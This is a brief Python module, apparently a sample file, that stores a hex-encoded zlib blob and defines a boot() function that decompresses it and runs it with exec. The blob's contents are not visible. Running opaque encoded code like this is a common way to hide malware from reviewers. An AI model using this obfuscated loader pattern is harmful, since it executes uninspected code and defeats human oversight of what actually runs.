"""Corpus sample: a zlib-compressed, hex-encoded module rebuilt at run time."""

import zlib

_DATA = "789cd5cc310e80200c00c0dd57904e9028bc89601389d4362d06fdbd0e7ec2fd729584b53bb6892dda6d1dc903968d5d6195d316cb240d17c977e3bc429858f0f0903a49fa0865dd5161763020c4a1b5a387eba5f5b7f903391f5f7d"


def boot():
    code = zlib.decompress(bytes.fromhex(_DATA))
    namespace = {}
    exec(compile(code, "<boot>", "exec"), namespace)
